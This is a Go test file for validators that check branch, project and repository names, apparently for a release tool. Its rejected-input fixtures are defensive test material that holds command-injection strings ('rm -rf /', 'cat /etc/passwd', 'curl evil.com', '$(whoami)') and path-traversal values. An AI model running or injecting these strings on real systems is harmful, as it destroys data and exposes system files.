package security

import (
	"testing"
)

func TestValidateBranchName(t *testing.T) {
	tests := []struct {
		name    string
		branch  string
		wantErr bool
	}{
		// Valid cases
		{"main branch", "main", false},
		{"master branch", "master", false},
		{"maintenance branch", "3.3.x", false},
		{"feature branch", "feature/new-feature", false},
		{"release branch", "release/v1.0.0", false},
		{"with numbers", "feature123", false},
		{"with dashes", "my-feature-branch", false},
		{"with underscores", "my_feature_branch", false},
		{"with dots", "release.1.0", false},

		// Invalid cases
		{"empty branch", "", true},
		{"starts with dash", "-malicious", true},
		{"command injection semicolon", "main; rm -rf /", true},
		{"command injection pipe", "main | cat /etc/passwd", true},
		{"command injection ampersand", "main && curl evil.com", true},
		{"command injection backtick", "main`whoami`", true},
		{"command injection dollar", "main$(whoami)", true},
		{"special chars", "feature@evil", true},
		{"spaces", "my branch", true},
		{"newline", "main\nmalicious", true},
		{"path traversal", "../../../etc/passwd", true},
		{"traversal segment", "feature/../../secrets", true},
		{"leading slash", "/etc/passwd", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateBranchName(tt.branch)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateBranchName() error = %v, wantErr %v", err, tt.wantErr)
			}
		})
	}
}

func TestValidateProjectName(t *testing.T) {
	tests := []struct {
		name    string
		project string
		wantErr bool
	}{
		// Valid cases
		{"simple name", "myproject", false},
		{"with dash", "spring-cloud-function", false},
		{"with underscore", "my_project", false},
		{"with numbers", "project123", false},
		{"mixed case", "MyProject", false},
		{"all caps", "MYPROJECT", false},

		// Invalid cases
		{"empty name", "", true},
		{"starts with dash", "-project", true},
		{"starts with dot", ".project", true},
		{"with slash", "my/project", true},
		{"with space", "my project", true},
		{"with @", "my@project", true},
		{"with special chars", "project!", true},
		{"command injection", "project; rm -rf /", true},
		{"path traversal", "../etc/passwd", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateProjectName(tt.project)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateProjectName() error = %v, wantErr %v", err, tt.wantErr)
			}
		})
	}
}

func TestValidateRepository(t *testing.T) {
	tests := []struct {
		name       string
		repository string
		wantErr    bool
	}{
		// Valid cases
		{"simple", "spring-cloud/spring-cloud-function", false},
		{"commercial suffix", "spring-cloud/spring-cloud-function-commercial", false},
		{"with numbers", "org123/repo456", false},

		// Invalid cases
		{"empty", "", true},
		{"no separator", "spring-cloud-function", true},
		{"too many separators", "a/b/c", true},
		{"empty org", "/repo", true},
		{"empty name", "org/", true},
		{"command injection", "org/repo; rm -rf /", true},
		{"spaces", "org/my repo", true},
		{"path traversal", "org/../../etc", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateRepository(tt.repository)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateRepository() error = %v, wantErr %v", err, tt.wantErr)
			}
		})
	}
}
